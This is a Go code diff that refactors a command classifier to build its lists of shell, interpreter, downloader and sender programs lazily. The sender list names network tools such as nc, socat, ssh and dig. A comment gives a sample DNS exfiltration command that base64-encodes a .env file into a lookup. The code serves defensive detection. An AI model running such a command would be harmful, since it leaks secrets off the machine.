@@ -30,33 +30,35 @@ func judgeProgram(w Word, ctx *Context, is func(string) bool, tables ...map[stri
 
 // judgeShell is [shell]: a program that is a shell.
 func judgeShell(_ string, w Word, ctx *Context) Judgement {
-	return judgeProgram(w, ctx, isShell, shellPrograms)
+	return judgeProgram(w, ctx, isShell, shellPrograms.get())
 }
 
 // judgeInterpreter is [interpreter]: a shell or another program that runs
 // a script read from standard input.
 func judgeInterpreter(_ string, w Word, ctx *Context) Judgement {
-	return judgeProgram(w, ctx, isInterpreter, shellPrograms, interpreterPrograms)
+	return judgeProgram(w, ctx, isInterpreter, shellPrograms.get(), interpreterPrograms.get())
 }
 
 // judgeDownloader is [downloader]: a program that fetches URLs.
 func judgeDownloader(_ string, w Word, ctx *Context) Judgement {
-	return judgeProgram(w, ctx, isDownloader, downloaderPrograms)
+	return judgeProgram(w, ctx, isDownloader, downloaderPrograms.get())
 }
 
 // senderPrograms send what they read to a host the words name, besides
 // the downloaders (which post what they are given).
-var senderPrograms = map[string]bool{
-	"nc": true, "ncat": true, "netcat": true, "socat": true, "openssl": true, "ssh": true,
-	"telnet": true, "mail": true, "mailx": true, "sendmail": true, "mutt": true,
-	// A name looked up is sent to the resolvers: a secret in it leaves
-	// the machine (dig $(base64 < .env).x.io).
-	"dig": true, "nslookup": true, "host": true, "drill": true, "ping": true, "ping6": true,
-}
+var senderPrograms = lazy[map[string]bool]{build: func() map[string]bool {
+	return map[string]bool{
+		"nc": true, "ncat": true, "netcat": true, "socat": true, "openssl": true, "ssh": true,
+		"telnet": true, "mail": true, "mailx": true, "sendmail": true, "mutt": true,
+		// A name looked up is sent to the resolvers: a secret in it leaves
+		// the machine (dig $(base64 < .env).x.io).
+		"dig": true, "nslookup": true, "host": true, "drill": true, "ping": true, "ping6": true,
+	}
+}}
 
 // judgeSender is [sender]: a program that sends what it reads to a host
 // (a downloader, nc, socat, openssl, ssh, mail …).
 func judgeSender(_ string, w Word, ctx *Context) Judgement {
-	is := func(name string) bool { return downloaderPrograms[name] || senderPrograms[name] }
-	return judgeProgram(w, ctx, is, downloaderPrograms, senderPrograms)
+	is := func(name string) bool { return downloaderPrograms.get()[name] || senderPrograms.get()[name] }
+	return judgeProgram(w, ctx, is, downloaderPrograms.get(), senderPrograms.get())
 }
